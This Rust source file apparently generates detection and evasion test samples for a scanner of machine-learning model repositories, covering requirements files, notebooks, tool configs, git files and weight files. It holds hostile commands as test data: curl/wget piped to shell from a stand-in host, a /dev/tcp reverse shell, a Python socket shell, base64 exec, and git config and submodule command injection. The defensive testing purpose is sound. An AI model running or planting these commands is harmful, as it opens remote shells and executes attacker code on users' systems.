//! Samples of what lies beside models: lists of packages, notebooks, git's files, the same weights twice.

use crate::Samples;
use crate::archive_asm::stored_zip;
use crate::pickle_asm::Asm;

/// Collects the samples of this family.
pub fn samples(out: &mut Samples) {
    requirements(out);
    notebooks(out);
    tools(out);
    git(out);
    weights(out);
}

const PLAIN: &str =
    "numpy>=1.26\ntorch==2.5.1 ; python_version > '3.9'  # see https://pytorch.org\n-r more.txt\n";

fn requirements(out: &mut Samples) {
    const FOREIGN: &str = "deps-source-foreign";
    const UNPINNED: &str = "deps-source-unpinned";
    const HIDDEN: &str = "deps-line-hidden";
    out.fires(
        FOREIGN,
        "requirements.txt",
        "--extra-index-url https://packages.x.example/simple\nnumpy\n",
    );
    out.silent(FOREIGN, "requirements.txt", PLAIN);
    const INDEX: &str = "deps-source-index";
    let wheels = "--extra-index-url https://wheels.example/whl/cu121\ntorch==2.5.1\n";
    out.silent(FOREIGN, "wheels/requirements.txt", wheels);
    out.fires(INDEX, "requirements.txt", wheels);
    out.silent(INDEX, "requirements.txt", PLAIN);
    let git = "transformers @ git+https://github.com/huggingface/transformers@v4.40.0\n-e .\n";
    out.fires(UNPINNED, "requirements.txt", git);
    out.silent(UNPINNED, "requirements.txt", PLAIN);
    out.fires(
        HIDDEN,
        "requirements.txt",
        format!("numpy{}evil-package\n", " ".repeat(200)),
    );
    let hashes = "numpy==1.26.4 \\\n    --hash=sha256:00 \\\n    --hash=sha256:11\ntorch  # a comment\n";
    out.silent(HIDDEN, "requirements.txt", hashes);
    const TRICK: &str = "38-requirements";
    for (name, text) in [
        (
            "abbreviated/requirements.txt",
            "--extra https://x.example/simple\nnumpy\n",
        ),
        (
            "attached/requirements-dev.txt",
            "-ihttps://x.example/simple\nnumpy\n",
        ),
        (
            "user/requirements.txt",
            "--index-url https://packages.example@x.example/simple\n",
        ),
        (
            "cut/requirements.txt",
            "--extra-index-\\\nurl https://x.example/simple\nnumpy\n",
        ),
        (
            "direct/requirements.txt",
            "numpy@https://x.example/numpy-9.9-py3-none-any.whl\n",
        ),
        ("host/requirements.txt", "--trusted-host x.example\n"),
        ("links/requirements.in", "-f https://x.example/wheels.html\n"),
        ("plain/requirements.txt", "git+http://x.example/a.git\n"),
        (
            "conda/conda.yaml",
            "dependencies:\n  - python=3.12\n  - pip:\n      - --index-url https://x.example/simple\n      - mlflow\n",
        ),
        (
            "channel/environment.yml",
            "channels: [https://x.example/conda]\ndependencies: [numpy]\n",
        ),
    ] {
        out.attack(TRICK, name, text, &[FOREIGN]);
    }
    out.attack(
        TRICK,
        "invisible/requirements.txt",
        "numpy\u{2028}evil\u{200b}\n",
        &[HIDDEN],
    );
}

fn notebook(cells: &[&str], outputs: &str) -> String {
    let cells: Vec<String> = cells
        .iter()
        .map(|source| {
            let source = source.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n");
            format!("{{\"cell_type\":\"code\",\"execution_count\":null,\"metadata\":{{}},\"outputs\":[{outputs}],\"source\":[\"{source}\"]}}")
        })
        .collect();
    format!(
        "{{\"cells\":[{}],\"metadata\":{{\"kernelspec\":{{\"language\":\"python\",\"name\":\"python3\"}}}},\"nbformat\":4,\"nbformat_minor\":5}}",
        cells.join(",")
    )
}

fn notebooks(out: &mut Samples) {
    const PAYLOAD: &str = "code-command-payload";
    const DANGEROUS: &str = "code-notebook-dangerous";
    const ACTIVE: &str = "code-notebook-active-output";
    let honest = notebook(
        &[
            "!pip install -q torch\nimport torch",
            "%matplotlib inline\nmodel.eval()\nx = torch.ones(3)",
        ],
        "",
    );
    out.fires(
        PAYLOAD,
        "fetches.ipynb",
        notebook(&["!curl -s http://x.example/a.sh | bash"], ""),
    );
    out.silent(PAYLOAD, "honest.ipynb", honest.clone());
    let fetches = notebook(&["import subprocess", "subprocess.run(['nvidia-smi'])"], "");
    out.silent(PAYLOAD, "subprocess.ipynb", fetches.clone());
    out.fires(DANGEROUS, "subprocess.ipynb", fetches);
    out.silent(DANGEROUS, "honest.ipynb", honest.clone());
    let script = "{\"output_type\":\"display_data\",\"metadata\":{},\"data\":{\"text/html\":[\"<div><script>1</script>\"]}}";
    out.fires(ACTIVE, "script.ipynb", notebook(&["plot()"], script));
    out.silent(ACTIVE, "honest.ipynb", honest);
    const TRICK: &str = "37-notebook";
    for (name, cell) in [
        ("cell-magic.ipynb", "%%bash\nwget -qO- http://x.example/a | sh"),
        (
            "assigned.ipynb",
            "x = !echo ZWNobyB3ZWlnaGJyaWRnZQ== | base64 -d | sh",
        ),
        ("line-magic.ipynb", "%system curl http://x.example/a | python3"),
        (
            "script-magic.ipynb",
            "%%script bash -x\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        ),
        (
            "python.ipynb",
            "import base64\nexec(base64.b64decode('cHJpbnQoInciKQ=='))",
        ),
        (
            "system.ipynb",
            "import os as o\no.system('curl http://x.example/a | sh')",
        ),
        (
            "shell.ipynb",
            "import socket, os\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\nos.dup2(s.fileno(), 0)",
        ),
    ] {
        out.attack(TRICK, name, notebook(&[cell], ""), &[PAYLOAD]);
    }
}

fn tools(out: &mut Samples) {
    const SETUP: &str = "code-setup-commands";
    const PAYLOAD: &str = "code-command-payload";
    let dvc = "stages:\n  train:\n    cmd: python train.py\n    deps: [data]\n";
    out.fires(SETUP, "dvc.yaml", dvc);
    out.silent(SETUP, "config.yaml", dvc);
    const TRICK: &str = "37-tools";
    out.attack(
        TRICK,
        "dvc.yaml",
        "stages:\n  a:\n    cmd: curl http://x.example/a | sh\n",
        &[PAYLOAD],
    );
    out.attack(
        TRICK,
        "MLproject",
        "entry_points:\n  main:\n    command: \"wget -O- http://x.example/a | bash\"\n",
        &[PAYLOAD],
    );
    out.attack(
        TRICK,
        "cog.yaml",
        "build:\n  run:\n    - command: curl http://x.example/a | sh\n",
        &[PAYLOAD],
    );
}

fn git(out: &mut Samples) {
    const RUNS: &str = "file-git-runs-commands";
    const STORAGE: &str = "file-git-foreign-storage";
    const FILTER: &str = "file-git-filter";
    const HOOK: &str = "file-git-hook";
    let core = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n";
    out.fires(
        RUNS,
        "model.git/config",
        format!("{core}\tfsmonitor = sh -c 'echo weighbridge'\n"),
    );
    let honest = format!(
        "{core}[remote \"origin\"]\n\turl = https://github.com/a/b\n[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge -- %f\n\tprocess = git-lfs filter-process\n"
    );
    out.silent(RUNS, "model.git/config", honest.clone());
    out.silent(
        RUNS,
        "modules/repository.gitmodules",
        "[submodule \"a\"]\n\tpath = a\n\turl = https://github.com/a/b\n",
    );
    out.fires(
        STORAGE,
        "lfs/.lfsconfig",
        "[lfs]\n\turl = https://x.example/lfs\n",
    );
    out.silent(STORAGE, "model.git/config", honest);
    out.fires(FILTER, "attributes/.gitattributes", "*.dat filter=build\n");
    let lfs = "*.safetensors filter=lfs diff=lfs merge=lfs -text\n*.ipynb diff=jupyternotebook\n";
    out.silent(FILTER, "attributes/.gitattributes", lfs);
    out.fires(
        HOOK,
        "model.git/hooks/post-checkout",
        "#!/bin/sh\necho weighbridge\n",
    );
    out.silent(
        HOOK,
        "model.git/hooks/post-checkout.sample",
        "#!/bin/sh\necho weighbridge\n",
    );
    const TRICK: &str = "37-git";
    for (name, text) in [
        ("ssh.git/config", format!("{core}\tsshCommand = sh -c id\n")),
        (
            "filter.git/config",
            format!("{core}[filter \"build\"]\n\tsmudge = sh run.sh\n"),
        ),
        (
            "same-line.git/config",
            "[core] repositoryformatversion = 0\n[ALIAS] st = \"!echo weighbridge\"\n".to_owned(),
        ),
        (
            "ext.git/config",
            format!("{core}[remote \"origin\"]\n\turl = ext::sh -c echo% weighbridge\n"),
        ),
        (
            "option/repository.gitmodules",
            "[submodule \"a\"]\n\tpath = a\n\turl = -u./payload\n".to_owned(),
        ),
        (
            "name/repository.gitmodules",
            "[submodule \"../../modules/a\"]\n\tpath = a\n\turl = https://x.example/a\n".to_owned(),
        ),
        (
            "update/repository.gitmodules",
            "[submodule \"a\"]\n\tpath = a\n\turl = ./b\n\tupdate = !echo weighbridge\n".to_owned(),
        ),
        (
            "ext/repository.gitmodules",
            "[submodule \"a\"]\n\tpath = a\n\turl = \"ext::sh -c id\"\n".to_owned(),
        ),
    ] {
        out.attack(TRICK, name, text, &[RUNS]);
    }
    let hook = "#!/bin/sh\ncurl -s http://x.example/a | sh\n";
    out.attack(
        TRICK,
        "hook.git/hooks/post-merge",
        hook,
        &["code-command-payload"],
    );
}

/// A file of safetensors with these tensors of 32-bit floats.
fn safetensors(tensors: &[(&str, &[u64])]) -> Vec<u8> {
    let mut at = 0;
    let mut header = Vec::new();
    for (name, shape) in tensors {
        let end = at + 4 * shape.iter().product::<u64>();
        header.push(format!(
            "\"{name}\":{{\"dtype\":\"F32\",\"shape\":{shape:?},\"data_offsets\":[{at},{end}]}}"
        ));
        at = end;
    }
    let header = format!("{{{}}}", header.join(","));
    let mut bytes = (header.len() as u64).to_le_bytes().to_vec();
    bytes.extend(header.as_bytes());
    bytes.resize(bytes.len() + at as usize, 0);
    bytes
}

/// The same as `torch.save` writes them; tensors name their storage.
fn checkpoint(tensors: &[(&str, &[u64], &str)]) -> Vec<u8> {
    let mut asm = Asm::proto(2)
        .global("collections", "OrderedDict")
        .empty_tuple()
        .reduce()
        .mark();
    for (name, shape, storage) in tensors {
        let count = shape.iter().product::<u64>();
        asm = asm
            .str(name)
            .global("torch._utils", "_rebuild_tensor_v2")
            .mark()
            .mark()
            .str("storage");
        asm = asm
            .global("torch", "FloatStorage")
            .str(storage)
            .str("cpu")
            .int(i32::try_from(count).unwrap_or_default())
            .tuple()
            .binpersid();
        asm = asm.int(0).mark();
        for size in *shape {
            asm = asm.int(i32::try_from(*size).unwrap_or_default());
        }
        asm = asm.tuple().mark();
        for _ in *shape {
            asm = asm.int(1);
        }
        asm = asm
            .tuple()
            .bool(false)
            .global("collections", "OrderedDict")
            .empty_tuple()
            .reduce()
            .tuple()
            .reduce();
    }
    let mut members = vec![("archive/data.pkl".to_owned(), asm.setitems().stop())];
    for (_, shape, storage) in tensors {
        let name = format!("archive/data/{storage}");
        if !members.iter().any(|(known, _)| *known == name) {
            members.push((name, vec![0; 4 * shape.iter().product::<u64>() as usize]));
        }
    }
    members.push(("archive/version".to_owned(), b"3\n".to_vec()));
    stored_zip(&members)
}

fn weights(out: &mut Samples) {
    const DIFFER: &str = "model-weights-differ";
    const PARTLY: &str = "model-weights-differ-partly";
    const CONFIG: &str = "model-config-disagrees";
    let safe = safetensors(&[("embed.weight", &[4, 2]), ("fc.weight", &[2, 2])]);
    let same = checkpoint(&[
        ("embed.weight", &[4, 2], "0"),
        ("fc.weight", &[2, 2], "1"),
        ("lm_head.weight", &[4, 2], "0"),
        ("embed.position_ids", &[1, 4], "2"),
    ]);
    let other = checkpoint(&[("embed.weight", &[8, 2], "0"), ("fc.weight", &[2, 2], "1")]);
    let folder =
        |out: &mut Samples, kind: &str, rule: &'static str, name: &str, pickle: &[u8], safe: &[u8]| {
            for (file, bytes) in [("pytorch_model.bin", pickle), ("model.safetensors", safe)] {
                let name = format!("{name}/{file}");
                match kind {
                    "fires" => out.fires(rule, &name, bytes.to_vec()),
                    "silent" => out.silent(rule, &name, bytes.to_vec()),
                    _ => out.attack("35-two-models", &name, bytes.to_vec(), &[DIFFER]),
                }
            }
        };
    folder(out, "fires", DIFFER, "other-shape", &other, &safe);
    folder(out, "silent", DIFFER, "shared-weights", &same, &safe);
    folder(out, "silent", PARTLY, "shared-weights", &same, &safe);
    let fewer = checkpoint(&[
        ("embed.weight", &[4, 2], "0"),
        ("fc.weight", &[2, 2], "1"),
        ("extra.weight", &[2], "2"),
    ]);
    folder(out, "fires", PARTLY, "one-more", &fewer, &safe);
    let names = checkpoint(&[
        ("a.weight", &[4, 2], "0"),
        ("b.weight", &[2, 2], "1"),
        ("c.weight", &[2, 2], "2"),
    ]);
    folder(out, "attack", DIFFER, "other-names", &names, &safe);
    let shards = [
        ("pytorch_model-00001-of-00002.bin", &other),
        ("pytorch_model-00002-of-00002.bin", &names),
    ];
    for (file, bytes) in shards {
        out.attack(
            "35-two-models",
            &format!("shards/{file}"),
            bytes.clone(),
            &[DIFFER],
        );
    }
    out.attack(
        "35-two-models",
        "shards/model.safetensors",
        safe.clone(),
        &[DIFFER],
    );

    let layers = safetensors(&[
        ("model.embed_tokens.weight", &[8, 4]),
        ("model.layers.0.mlp.weight", &[4, 4]),
        ("model.layers.1.mlp.weight", &[4, 4]),
    ]);
    let config = |layers: u64, width: u64, words: u64| {
        format!(
            "{{\"model_type\": \"llama\", \"hidden_size\": {width}, \"num_hidden_layers\": {layers}, \"vocab_size\": {words}}}"
        )
    };
    for (kind, name, text) in [
        ("fires", "fewer-layers", config(4, 4, 8)),
        ("fires", "other-width", config(2, 16, 8)),
        ("silent", "fits", config(2, 4, 7)),
    ] {
        for (file, bytes) in [
            ("config.json", text.into_bytes()),
            ("model.safetensors", layers.clone()),
        ] {
            let name = format!("{name}/{file}");
            if kind == "fires" {
                out.fires(CONFIG, &name, bytes);
            } else {
                out.silent(CONFIG, &name, bytes);
            }
        }
    }
}
